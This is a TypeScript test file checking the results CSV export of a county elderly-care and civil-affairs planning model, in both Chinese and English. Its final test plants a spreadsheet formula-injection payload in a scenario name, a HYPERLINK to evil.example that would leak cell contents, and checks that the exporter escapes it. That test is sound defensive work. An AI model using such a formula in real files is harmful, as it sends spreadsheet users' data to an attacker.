import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { findPreset } from '../../models/presets/index.ts';
import { defaultProjector } from '../../src/engine/default-model.ts';
import { resultsReportCsv } from '../../src/io/results-report-csv.ts';

const projector = defaultProjector();
const scenario = structuredClone(findPreset('sanmen-14th')!.scenario);
scenario.parameters.beds_new_per_year = 120;
scenario.provenance = { ...scenario.provenance, beds_new_per_year: { kind: 'planner', ref: '2025-01-02' } };
scenario.parameters.sw_new_per_year = 200;
scenario.parameterPeriods = { sw_new_per_year: { until: 2025, after: 134 } };
const result = projector.run(scenario);
const csv = (lang: 'zh' | 'en') =>
  resultsReportCsv({ lang, scenario, result, variables: projector.variables(scenario), parameters: projector.parameters, exportedAt: '2025-01-02T03:04:05Z' });
const table = (text: string) => Papa.parse<string[]>(text.replace(/^\uFEFF/, ''), { skipEmptyLines: false }).data;
/** The rows of a section: from the row after its title to the next empty row. */
const section = (rows: string[][], title: string) => {
  const i = rows.findIndex((r) => r[0] === title);
  expect(i, title).toBeGreaterThanOrEqual(0);
  const end = rows.findIndex((r, k) => k > i && (r.length === 0 || (r.length === 1 && r[0] === '')));
  return rows.slice(i + 1, end < 0 ? undefined : end);
};

describe('the results CSV the page exports', () => {
  it('names the scenario, keeps full precision, and carries the changed parameters and the verdicts (Chinese)', () => {
    const text = csv('zh');
    expect(text.charCodeAt(0)).toBe(0xfeff);
    expect(text).toContain('\r\n');
    const rows = table(text);
    expect(rows[0]).toEqual(['情景', '三门县"十四五"民政事业发展规划']);
    expect(rows.some((r) => r[0] === '导出时间' && r[1] === '2025-01-02T03:04:05Z')).toBe(true);

    const results = section(rows, '预测结果');
    expect(results[0].slice(0, 4)).toEqual(['编号', '指标', '单位', '2020']);
    const share = results.find((r) => r[0] === 'nursing_bed_share')!;
    expect(share[1]).toBe('护理型床位占比');
    // Full precision: the stored fraction, not "53%".
    expect(Number(share[3])).toBeCloseTo(0.53, 12);
    expect(share[3]).not.toMatch(/%/);
    // A value not given is an empty cell, and the head says why.
    expect(results.find((r) => r[0] === 'assistance_share_of_budget')!.slice(3).every((c) => c === '')).toBe(true);
    expect(rows.some((r) => r[1] === 'assistance_share_of_budget' && /基期地方财政支出/.test(r[3]))).toBe(true);

    const changed = section(rows, '与模型默认值不同的参数');
    expect(changed[0]).toEqual(['编号', '参数', '取值', '默认值', '单位', '适用年份', '来源', '默认值来源']);
    const beds = changed.find((r) => r[0] === 'beds_new_per_year')!;
    expect(beds[2]).toBe('120');
    expect(beds[5]).toBe('各年');
    expect(beds[6]).toBe('本地输入 2025-01-02');
    const sw = changed.find((r) => r[0] === 'sw_new_per_year')!;
    // A lever limited to the plan period says until when, and what holds after.
    expect(sw[5]).toBe('2020–2025年;2026年起为 134');
    const pop = changed.find((r) => r[0] === 'base_pop_total')!;
    // An assumption says so in Chinese; the preset's English note is left out of a Chinese file.
    expect(pop[6]).toMatch(/^假设 /);
    expect(pop[6]).not.toMatch(/[A-Za-z]{4,}/);

    const targets = section(rows, '目标核验');
    expect(targets[0]).toEqual(['编号', '目标', '表达式', '规则', '目标年', '目标年取值', '余量', '单位', '结论', '首次达成', '来源']);
    const permille = targets.find((r) => r[0] === 'sanmen_sw_permille_2020')!;
    expect(permille[3]).toBe('2020年 ≥ 0.8‰');
    expect(Number(permille[5])).toBeCloseTo(0.0017, 8);
    expect(Number(permille[6])).toBeCloseTo(0.0009, 8);
    expect(permille[7]).toBe('比例(小数,×1000 即 ‰)');
    expect(permille[8]).toBe('✓ 已达成');
    const binding = targets.find((r) => r[0] === 'sanmen_nursing_bed_share_2025')!;
    expect(binding[10]).toMatch(/约束性$/);
  });

  it('is all in English in English mode, ids and figures unchanged', () => {
    const rows = table(csv('en'));
    expect(rows[0]).toEqual(['Scenario', 'Sanmen county 14th Five-Year plan']);
    const results = section(rows, 'Projection');
    expect(results[0].slice(0, 3)).toEqual(['id', 'Indicator', 'Unit']);
    expect(results.find((r) => r[0] === 'nursing_bed_share')![1]).toBe('Nursing-bed share');
    const targets = section(rows, 'Targets');
    const t = targets.find((r) => r[0] === 'sanmen_nursing_bed_share_2025')!;
    expect(t[1]).toBe('Nursing-bed share in institutions');
    expect(t[3]).toBe('≥ 58% in 2025');
    expect(t[10]).toMatch(/binding$/);
    // Apart from the region's own name and preset text typed in Chinese, no Chinese in an English file.
    const words = [...rows.flatMap((r) => r.slice(0, 1)), ...section(rows, 'Targets').flatMap((r) => [r[1], r[3], r[7], r[8]])];
    expect(words.filter((x) => /[\u4e00-\u9fff]/.test(x ?? ''))).toEqual([]);
  });
});

describe('the results CSV also carries', () => {
  it('the population by age group and sex, and the plausibility warnings, in the UI language', () => {
    const zh = table(csv('zh'));
    const groups = section(zh, '分年龄组、性别人口');
    const m0 = groups.find((r) => r[0] === 'pop_male_0_4')!;
    expect(m0[1]).toBe('男性0–4岁人口');
    expect(Number(m0[3])).toBeGreaterThan(0);
    expect(groups.filter((r) => /^pop_(male|female)_/.test(r[0]))).toHaveLength(42);
    const sumBase = groups.filter((r) => /^pop_(male|female)_/.test(r[0])).reduce((s, r) => s + Number(r[3]), 0);
    expect(sumBase).toBeCloseTo(result.series.pop_total[0], 0);
    const warned = structuredClone(scenario);
    warned.parameters.dibao_std_rural_base = 900; // above the urban 660: a warning
    const r2 = projector.run(warned);
    expect(r2.warnings.length).toBeGreaterThan(0);
    const en = table(resultsReportCsv({ lang: 'en', scenario: warned, result: r2, variables: projector.variables(warned), parameters: projector.parameters }));
    const w = section(en, 'Plausibility warnings');
    expect(w[0]).toEqual(['Warning', 'Years', 'Parameters to look at']);
    expect(w.slice(1).map((r) => r[0])).toEqual(r2.warnings.map((x) => x.message.en));
  });

  it('a label with a formula and a newline is escaped (the first character decides, not the first line)', () => {
    const evil = structuredClone(scenario);
    evil.name = '=HYPERLINK("http://evil.example/?x="&A1,"click")\nsecond line';
    const rows = table(resultsReportCsv({ lang: 'zh', scenario: evil, result, variables: projector.variables(evil), parameters: projector.parameters }));
    expect(rows[0][1].startsWith("'=")).toBe(true);
  });
});
